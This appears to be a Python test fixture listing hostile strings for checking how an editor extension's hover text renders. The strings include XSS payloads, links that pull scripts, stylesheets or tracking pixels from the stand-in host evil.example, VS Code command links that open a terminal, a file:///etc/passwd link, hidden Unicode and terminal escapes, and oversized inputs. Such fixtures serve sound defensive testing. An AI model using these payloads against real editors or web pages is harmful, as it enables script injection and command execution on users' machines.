"""Texts that try to be more than text when a hover shows them."""

from __future__ import annotations

PAYLOADS: tuple[str, ...] = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert`1`>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<a href='command:workbench.action.terminal.new'>x</a>",
    '<a href="vscode://evil.example">x</a>',
    '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><button>x</button></form>",
    "<!-- comment -->",
    "<![CDATA[x]]>",
    "<?php echo 1 ?>",
    "<https://evil.example>",
    "<someone@evil.example>",
    "[x](command:workbench.action.terminal.new)",
    "[x](command:adkEvidence.findEvidence?%5B%5D)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](vscode://evil.example/x)",
    '[x](https://evil.example "title")',
    "[x]( <command:evil> )",
    "[x][1]\n\n[1]: command:evil",
    "[1]: command:evil\n\n[1]",
    "![x](https://evil.example/pixel.png)",
    "![x](command:evil)",
    "[![x](https://evil.example/p.png)](command:evil)",
    "](command:evil)",
    "x](javascript:alert(1))[y",
    "https://evil.example/autolink",
    "http://evil.example",
    "www.evil.example",
    "ftp://evil.example/x",
    "mailto:someone@evil.example",
    "someone@evil.example",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "&#x3c;img src=x&#x3e;",
    "[x](&#99;ommand:evil)",
    "``` \n[x](command:evil)\n```",
    "````\n</code></pre><script>alert(1)</script>",
    "`` ` ``[x](command:evil)`",
    "`unclosed [x](command:evil)",
    "~~~\n[x](command:evil)",
    "# heading\n## heading",
    "heading\n=======",
    "- item\n- item",
    "> quote [x](command:evil)",
    "| a | b |\n| - | - |\n| [x](command:evil) | c |",
    "***bold*** __bold__ ~~gone~~",
    "\\[x\\](command:evil) \\\\[x](command:evil)",
    "$(terminal) $(zap~spin)",
    "\u202eevil\u202c \u2066x\u2069",
    "\u200bzero\u200bwidth\ufeff",
    "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07x\x1b]8;;\x07",
    "\x00\x07\x08\x7f\x9b31m",
    "\U000e0041\U000e0042 tags",
    "\ufdd0 \ud7ff",
    "A" * 100_000,
    "[" * 2_000 + "x",
    "`" * 500,
    "*a" * 2_000,
    "{{7*7}} ${7*7} #{7*7}",
)

# What can stand in the docstring of a Python file.
_IN_SOURCE = [text for text in PAYLOADS if "\x00" not in text]
HOSTILE_MODULE = (
    "\n\n".join(
        ['"""A module whose docstrings are hostile."""']
        + [f"def hostile_{number}() -> None:\n    {text!r}" for number, text in enumerate(_IN_SOURCE)]
    )
    + "\n"
)
HOSTILE_FUNCTIONS = len(_IN_SOURCE)
